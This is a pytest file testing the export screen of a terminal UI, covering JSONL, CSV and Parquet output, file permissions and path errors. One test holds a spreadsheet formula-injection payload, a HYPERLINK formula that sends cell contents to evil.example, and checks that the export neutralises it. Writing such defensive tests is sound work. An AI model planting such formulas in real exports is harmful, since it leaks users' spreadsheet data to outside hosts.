"""The export screen: format, items and path; a real run's log written in a worker."""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from textual.message import Message
from textual.pilot import Pilot
from textual.widgets import Input, Static

from engine import Run, load_results, make_config
from tests.tui._host import SNAPSHOT_SIZE, HostApp, assert_bindings_have_ids, posted
from tui.screens.export import ExportScreen

pytestmark = pytest.mark.anyio

ITEMS = 12


@pytest.fixture
async def run(tmp_path: Path) -> Run:
    """A finished simulated run of a dozen tickets, some of which failed."""
    source = tmp_path / "tickets.jsonl"
    source.write_text(
        "".join(
            json.dumps({"id": f"t{n:02d}", "text": f"ticket {n}", "priority": n % 3}) + "\n"
            for n in range(ITEMS)
        )
    )
    config = make_config(
        input=str(source),
        sim={"latency_ms": 0, "failure_rate": 0.4, "seed": 7},
        retry={"retries": 0},
    )
    created = Run.create(config)
    await created.execute([])
    return created


def _statuses(run: Run) -> dict[str, int]:
    counts: dict[str, int] = {}
    for result in load_results(run):
        counts[result.status] = counts.get(result.status, 0) + 1
    return counts


def _temporary_files(directory: Path) -> list[str]:
    return [path.name for path in directory.iterdir() if path.name.endswith(".tmp")]


def _line(app: HostApp) -> Static:
    return app.screen.query_one("#export-result", Static)


async def _export(pilot: Pilot[None]) -> None:
    await pilot.press("ctrl+s")
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()


async def test_the_default_path_follows_the_format_until_the_user_edits_it(
    run: Run, tmp_path: Path
) -> None:
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        path = app.screen.query_one("#path", Input)
        assert path.value == str(tmp_path / f"{run.run_id}.jsonl")
        await pilot.click("#format-csv")
        assert path.value == str(tmp_path / f"{run.run_id}.csv")
        path.value = str(tmp_path / "mine.csv")
        await pilot.click("#format-jsonl")
        assert path.value == str(tmp_path / "mine.csv")


async def test_jsonl_of_every_item_is_written_and_reported(run: Run, tmp_path: Path) -> None:
    messages: list[Message] = []
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE, message_hook=messages.append) as pilot:
        await _export(pilot)
        target = tmp_path / f"{run.run_id}.jsonl"
        assert str(_line(app).content) == f"Wrote {ITEMS} rows to {target}"
        assert app.notices == [("information", f"Wrote {ITEMS} rows to {target}")]
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    assert sorted(row["id"] for row in rows) == [f"t{n:02d}" for n in range(ITEMS)]
    [exported] = posted(messages, ExportScreen.Exported)
    assert (exported.path, exported.rows) == (target, ITEMS)
    assert _temporary_files(tmp_path) == []
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600 & ~umask  # never wider than the log


async def test_csv_of_the_failed_items_reads_back(run: Run, tmp_path: Path) -> None:
    failed = _statuses(run)["failed"]
    assert 0 < failed < ITEMS
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        await pilot.click("#format-csv")
        await pilot.click("#which-failed")
        app.screen.query_one("#path", Input).value = "failed.csv"  # relative to the directory
        await _export(pilot)
    with (tmp_path / "failed.csv").open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == failed
    assert {row["status"] for row in rows} == {"failed"}
    assert {"id", "text", "priority", "error"} <= set(rows[0])


async def test_an_unwritable_path_is_one_line_and_leaves_nothing_behind(
    run: Run, tmp_path: Path
) -> None:
    messages: list[Message] = []
    missing = tmp_path / "no-such-dir" / "out.jsonl"
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE, message_hook=messages.append) as pilot:
        app.screen.query_one("#path", Input).value = str(missing)
        await _export(pilot)
        line = _line(app)
        assert str(line.content) == (
            f"Export failed: cannot write {missing}: No such file or directory"
        )
        assert line.has_class("-problem")
        assert [severity for severity, _ in app.notices] == ["error"]
        app.screen.query_one("#path", Input).value = str(tmp_path)  # a directory
        await _export(pilot)
        assert str(_line(app).content) == f"Export failed: cannot write {tmp_path}: Is a directory"
        assert isinstance(app.screen, ExportScreen)
    assert not posted(messages, ExportScreen.Exported)
    assert _temporary_files(tmp_path) == []


async def test_enter_in_the_path_exports_and_an_empty_path_is_refused(
    run: Run, tmp_path: Path
) -> None:
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        path = app.screen.query_one("#path", Input)
        path.value = "  "
        path.focus()
        await pilot.press("enter")
        assert str(_line(app).content) == "Give a file name to write to."
        path.value = "from-enter.jsonl"
        await pilot.press("enter")
        await app.workers.wait_for_complete()
        await pilot.pause()
    assert len((tmp_path / "from-enter.jsonl").read_text().splitlines()) == ITEMS


def _fixed_screen() -> ExportScreen:
    """A run that is never read (the snapshot is taken before exporting), at fixed paths."""
    run = Run(Path("/runs/20261122-150000-demo"), make_config(input="tickets.jsonl"))
    return ExportScreen(run, directory=Path("/home/me/exports"))


def test_snapshot_with_csv_of_failed_items_chosen(snap_compare: Any) -> None:
    async def choose(pilot: Pilot[None]) -> None:
        await pilot.click("#format-csv")
        await pilot.click("#which-failed")

    app = HostApp(_fixed_screen())
    assert snap_compare(app, terminal_size=SNAPSHOT_SIZE, run_before=choose)


def test_every_binding_has_an_id() -> None:
    assert_bindings_have_ids(ExportScreen)


async def test_csv_cells_that_start_a_formula_are_inert_unless_raw_cells_is_ticked(
    tmp_path: Path,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
    source = tmp_path / "sheet.jsonl"
    source.write_text(json.dumps({"id": "f1", "text": formula}) + "\n")
    sheet = Run.create(make_config(input=str(source), sim={"latency_ms": 0}))
    await sheet.execute([])
    app = HostApp(ExportScreen(sheet, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        await pilot.click("#format-csv")
        app.screen.query_one("#path", Input).value = "safe.csv"
        await _export(pilot)
        await pilot.click("#raw-cells")
        app.screen.query_one("#path", Input).value = "raw.csv"
        await _export(pilot)
    cells = {}
    for name in ("safe", "raw"):
        with (tmp_path / f"{name}.csv").open(newline="") as stream:
            [row] = list(csv.DictReader(stream))
            cells[name] = row["text"]
    assert cells == {"safe": "'" + formula, "raw": formula}


async def test_an_export_into_the_run_dir_is_refused_in_one_line(run: Run, tmp_path: Path) -> None:
    inside = run.run_dir / "results.jsonl"
    app = HostApp(ExportScreen(run, directory=tmp_path))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        app.screen.query_one("#path", Input).value = str(inside)
        await _export(pilot)
        assert str(_line(app).content) == (
            f"Export failed: {inside} is inside run dir {run.run_dir}: write it somewhere "
            "else, run dirs hold only what batchdeck keeps there"
        )
    assert not inside.exists()


async def test_by_default_an_export_goes_to_the_runs_exports_folder_and_parquet_is_offered(
    run: Run,
) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    app = HostApp(ExportScreen(run))
    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
        path = app.screen.query_one("#path", Input)
        assert path.value == str(run.run_dir / "exports" / f"{run.run_id}.jsonl")
        await pilot.click("#format-parquet")
        assert path.value == str(run.run_dir / "exports" / f"{run.run_id}.parquet")
        await _export(pilot)
        assert "Wrote 12 rows" in str(_line(app).render())
    table = pq.read_table(run.run_dir / "exports" / f"{run.run_id}.parquet")
    assert table.num_rows == ITEMS
